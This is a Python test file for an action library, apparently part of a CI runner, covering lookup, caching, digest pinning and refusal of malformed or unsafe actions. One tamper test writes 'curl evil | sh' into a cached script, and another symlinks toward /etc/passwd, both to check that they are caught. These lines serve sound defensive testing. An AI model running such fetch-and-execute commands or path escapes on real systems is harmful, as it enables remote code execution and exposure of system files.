"""The library over folders: what is found, kept, refused, and mended."""

from pathlib import Path

import pytest

from ostler.actions.library import Found, Library, Remote
from ostler.actions.library.folder_source import FolderSource
from ostler.actions.library.source import Source, Version
from ostler.domain.machine import Refused
from ostler.workflow.action_model import DockerRuns

METADATA = (
    "name: hello\ndescription: says hello\nruns:\n  using: composite\n  steps: [{run: echo hello, shell: bash}]\n"
)
HELLO = Remote("acme", "hello", "", "v1")


def write(folder: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


@pytest.fixture
def actions(tmp_path: Path) -> Path:
    write(tmp_path / "actions/acme/hello@v1", {"action.yml": METADATA, "sub/action.yaml": METADATA, "run.sh": "echo"})
    return tmp_path / "actions"


def library(tmp_path: Path, *sources: Source, job: str = "job", pins: dict[str, str] | None = None) -> Library:
    return Library(cache=tmp_path / "cache", into=tmp_path / job, sources=sources, pins=pins)


def test_an_action_is_found_in_a_folder(tmp_path: Path, actions: Path) -> None:
    found = library(tmp_path, FolderSource(str(actions))).find(HELLO)
    assert isinstance(found, Found)
    assert found.action.name == "hello"
    assert (found.directory / "run.sh").read_text() == "echo"
    assert found.digest.startswith("sha256:")


def test_an_action_below_a_path_has_its_own_folder(tmp_path: Path, actions: Path) -> None:
    found = library(tmp_path, FolderSource(str(actions))).find(HELLO._replace(path="sub"))
    assert isinstance(found, Found)
    assert found.directory.name == "sub"


def test_every_job_gets_a_copy_that_it_may_change(tmp_path: Path, actions: Path) -> None:
    source = FolderSource(str(actions))
    first = library(tmp_path, source, job="one").find(HELLO)
    assert isinstance(first, Found)
    (first.directory / "run.sh").write_text("changed")
    second = library(tmp_path, source, job="two").find(HELLO)
    assert isinstance(second, Found)
    assert (second.directory / "run.sh").read_text() == "echo"


def test_a_job_fetches_what_it_uses_twice_once(tmp_path: Path, actions: Path) -> None:
    ours = library(tmp_path, FolderSource(str(actions)))
    first = ours.find(HELLO)
    (actions / "acme/hello@v1/run.sh").write_text("moved meanwhile")
    assert ours.find(HELLO) == first


def test_a_moved_tag_is_refused(tmp_path: Path, actions: Path) -> None:
    source = FolderSource(str(actions))
    found = library(tmp_path, source).find(HELLO)
    assert isinstance(found, Found)
    (actions / "acme/hello@v1/run.sh").write_text("something else")
    (tmp_path / "cache").rename(tmp_path / "elsewhere")
    moved = library(tmp_path, source, job="later", pins={"Acme/hello@v1": found.digest}).find(HELLO)
    assert isinstance(moved, Refused)
    assert moved.code == "action_moved"
    assert not list((tmp_path / "later").rglob("run.sh"))


def test_what_is_locked_and_kept_is_not_asked_for(tmp_path: Path, actions: Path) -> None:
    found = library(tmp_path, FolderSource(str(actions))).find(HELLO)
    assert isinstance(found, Found)
    again = library(tmp_path, job="offline", pins={"acme/hello@v1": found.digest}).find(HELLO)
    assert isinstance(again, Found)
    assert again.source == "cache"


def test_a_tampered_cache_is_noticed_and_mended(tmp_path: Path, actions: Path) -> None:
    source = FolderSource(str(actions))
    found = library(tmp_path, source).find(HELLO)
    assert isinstance(found, Found)
    kept = next((tmp_path / "cache/trees").rglob("run.sh"))
    kept.write_text("curl evil | sh")
    pins = {"acme/hello@v1": found.digest}
    offline = library(tmp_path, job="offline", pins=pins).find(HELLO)
    assert isinstance(offline, Refused)
    mended = library(tmp_path, source, job="mended", pins=pins).find(HELLO)
    assert isinstance(mended, Found)
    assert (mended.directory / "run.sh").read_text() == "echo"


def test_a_refusal_names_who_was_asked(tmp_path: Path, actions: Path) -> None:
    missing = library(tmp_path, FolderSource(str(actions)), FolderSource("/srv/{owner}/{repo}")).find(
        Remote("acme", "absent", "", "v1")
    )
    assert isinstance(missing, Refused)
    assert missing.code == "action_not_found"
    assert str(actions) in missing.reason
    assert "/srv/acme/absent" in missing.reason
    assert "ostler action import acme/absent@v1" in missing.reason


def test_malformed_metadata_is_refused_with_its_place(tmp_path: Path) -> None:
    write(tmp_path / "actions/acme/hello@v1", {"action.yml": "name: x\nruns:\n  using: composite\n  stepz: []\n"})
    refused = library(tmp_path, FolderSource(str(tmp_path / "actions"))).find(HELLO)
    assert isinstance(refused, Refused)
    assert refused.code == "action_malformed"
    assert "action.yml:3:3" in refused.reason


def test_a_link_that_leaves_the_action_is_refused(tmp_path: Path, actions: Path) -> None:
    (actions / "acme/hello@v1/out").symlink_to("../../../../etc/passwd")
    refused = library(tmp_path, FolderSource(str(actions))).find(HELLO)
    assert isinstance(refused, Refused)
    assert refused.code == "action_unsafe"


def test_built_in_actions_need_no_source(tmp_path: Path) -> None:
    found = library(tmp_path).find(Remote("actions", "checkout", "", "v4"))
    assert isinstance(found, Found)
    assert found.builtin == "checkout"


class Unreachable:
    """A source that knew an action once and is away now."""

    name = "git.example"

    def __init__(self, folder: Path) -> None:
        self.away = False
        self._folder = FolderSource(str(folder))

    def resolve(self, remote: Remote) -> Version | Refused:
        return Refused("action_unreachable", "no route") if self.away else Version("c" * 40)

    def fetch(self, remote: Remote, version: Version, into: Path) -> str | Refused:
        return Refused("action_unreachable", "no route") if self.away else self._folder.fetch(remote, version, into)


def test_a_source_that_is_away_does_not_stop_what_is_kept(tmp_path: Path, actions: Path) -> None:
    source = Unreachable(actions)
    assert isinstance(library(tmp_path, source).find(HELLO), Found)
    source.away = True
    found = library(tmp_path, source, job="later").find(HELLO)
    assert isinstance(found, Found)
    assert "did not answer" in found.note
    never = library(tmp_path, source, job="never").find(HELLO._replace(ref="v2"))
    assert isinstance(never, Refused)


def test_a_whole_commit_is_never_asked_for_twice(tmp_path: Path, actions: Path) -> None:
    commit = HELLO._replace(ref="c" * 40)
    (actions / "acme/hello@v1").rename(actions / f"acme/hello@{'c' * 40}")
    source = Unreachable(actions)
    assert isinstance(library(tmp_path, source).find(commit), Found)
    found = library(tmp_path, job="later").find(commit)
    assert isinstance(found, Found)
    assert found.source == "cache"


def test_a_dockerfile_alone_is_an_action(tmp_path: Path) -> None:
    write(tmp_path / "actions/acme/hello@v1", {"Dockerfile": "FROM scratch\n"})
    found = library(tmp_path, FolderSource(str(tmp_path / "actions"))).find(HELLO)
    assert isinstance(found, Found)
    assert found.action.runs == DockerRuns(image="Dockerfile")
